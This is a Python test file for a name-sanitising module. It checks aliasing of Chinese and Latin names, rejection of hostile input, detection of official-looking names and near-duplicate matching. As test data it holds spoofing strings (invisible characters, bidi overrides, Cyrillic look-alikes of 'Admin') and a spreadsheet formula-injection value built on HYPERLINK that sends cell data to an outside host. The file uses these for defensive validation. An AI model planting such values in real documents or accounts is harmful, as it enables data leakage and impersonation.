"""Names: aliases, cleaning of hostile input, look-alikes."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.names import (
    LONGEST_NAME,
    NameProblem,
    alias,
    clean_name,
    is_usual_name,
    looks_official,
    near_duplicate,
)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("王小明", "王*明"),
        ("王明", "王*"),
        ("王", "*"),
        ("", "*"),
        ("欧阳修", "欧阳*"),
        ("欧阳娜娜", "欧阳*娜"),
        ("欧阳", "欧*"),  # the surname 欧 and the given name 阳
        ("司马相如", "司马*如"),
        ("阿依古丽·买买提", "阿*提"),
        ("John Smith", "J***"),
        ("élan vital", "É***"),
        ("Мария", "М***"),
        ("王Lee", "王*"),
    ],
)
def test_alias(name: str, shown: str) -> None:
    assert alias(name) == shown


@given(st.text(min_size=2, max_size=40))
def test_alias_never_tells_the_whole_name(name: str) -> None:
    cleaned = clean_name(name)
    if isinstance(cleaned, NameProblem) or len(cleaned) < 2:
        return
    shown = alias(cleaned)
    assert shown != cleaned
    assert "*" in shown
    assert len(shown) <= 12


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (" 张三 ", "张三"),
        ("王　明", "王明"),
        ("王 \n明", "王明"),
        ("John   Smith", "John Smith"),
        ("Ｊｏｈｎ", "John"),
        ("阿依古丽.买买提", "阿依古丽·买买提"),
        ("阿依古丽•买买提", "阿依古丽·买买提"),
        ("阿依古丽・买买提", "阿依古丽·买买提"),
        ("J. R. Smith", "J. R. Smith"),
        ("张\u200b三", "张三"),
        ("张三\u202e", "张三"),
        ("张\u3164三", "张三"),
        ("张三（大）", "张三(大)"),
        ("𠮷田", "𠮷田"),
        ("\u2f00三", "一三"),  # a radical that only looks like the character
    ],
)
def test_clean_name_accepts(text: str, name: str) -> None:
    assert clean_name(text) == name


HOSTILE = [
    ("", NameProblem.EMPTY),
    ("   ", NameProblem.EMPTY),
    ("\u200b\u200d\ufeff", NameProblem.EMPTY),
    ("\u3164", NameProblem.EMPTY),
    ("\u2800\u115f", NameProblem.EMPTY),
    ("a\x00b", NameProblem.UNPRINTABLE),
    ("a\x0bb", NameProblem.UNPRINTABLE),
    ("\x1b[31m张三", NameProblem.UNPRINTABLE),
    ("张\ud800三", NameProblem.UNPRINTABLE),
    ("张\ufffd", NameProblem.UNPRINTABLE),
    ("张\uffff", NameProblem.UNPRINTABLE),
    ("Z" + "\u0300" * 30, NameProblem.UNPRINTABLE),
    ("王" * 41, NameProblem.TOO_LONG),
    ("x" * 40_000, NameProblem.TOO_LONG),
    ("\ufdfa" * 10, NameProblem.TOO_LONG),  # one character that NFKC makes eighteen
    ("=1+1", NameProblem.NO_LETTER),
    ("+1", NameProblem.NO_LETTER),
    ("-1", NameProblem.NO_LETTER),
    ("12345", NameProblem.NO_LETTER),
    ("……", NameProblem.NO_LETTER),
    ("😀", NameProblem.NO_LETTER),
    ("管理员", NameProblem.OFFICIAL),
    ("管理员\u202e", NameProblem.OFFICIAL),
    ("管 理 员", NameProblem.OFFICIAL),
    ("管\u200b理\u200b员", NameProblem.OFFICIAL),
    ("管理員", NameProblem.OFFICIAL),
    ("系统通知", NameProblem.OFFICIAL),
    ("【官方】客服", NameProblem.OFFICIAL),
    ("Аdmin", NameProblem.OFFICIAL),  # the first letter is Cyrillic
    ("adm1n", NameProblem.OFFICIAL),
    ("Ａ.d.m.i.n", NameProblem.OFFICIAL),
    ("System Notice", NameProblem.OFFICIAL),
    ("张书记", NameProblem.OFFICIAL),
    ("null", NameProblem.OFFICIAL),
]


@pytest.mark.parametrize(("text", "problem"), HOSTILE)
def test_clean_name_refuses(text: str, problem: NameProblem) -> None:
    assert clean_name(text) is problem


def test_formula_stays_text_and_is_unusual() -> None:
    formula = '=HYPERLINK("http://x/"&A1,"ok")'
    assert clean_name(formula) == formula
    assert not is_usual_name(formula)
    assert not is_usual_name("@SUM")
    assert is_usual_name("阿依古丽·买买提")
    assert is_usual_name("O'Neil-Smith")


@given(st.text(st.characters(exclude_categories=())))
def test_clean_name_is_plain_and_stable(text: str) -> None:
    name = clean_name(text)
    if isinstance(name, NameProblem):
        return
    assert 1 <= len(name) <= LONGEST_NAME
    assert clean_name(name) == name
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in name)
    name.encode("utf-8")


@pytest.mark.parametrize("name", ["Root Lee", "张一一", "Thomas Bot", "Adminah", "司徒美堂"])
def test_real_names_are_not_official(name: str) -> None:
    assert not looks_official(name)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("高一（3）班", "高一三班"),
        ("团支部", "團支部"),
        ("Ｂranch", "branch"),
        ("Вranch", "branch"),
        ("东街社区 ", "东街\u200b社区"),
        ("O2班", "02班"),
    ],
)
def test_near_duplicates(one: str, other: str) -> None:
    assert near_duplicate(one, other)


@pytest.mark.parametrize(
    ("one", "other"), [("高一3班", "高一2班"), ("东街社区", "西街社区"), ("一中", "二中")]
)
def test_different_units(one: str, other: str) -> None:
    assert not near_duplicate(one, other)


@given(st.text(max_size=20))
def test_spaces_and_invisible_characters_make_no_other_name(text: str) -> None:
    assert near_duplicate(text, " ".join(text) + "\u200b")
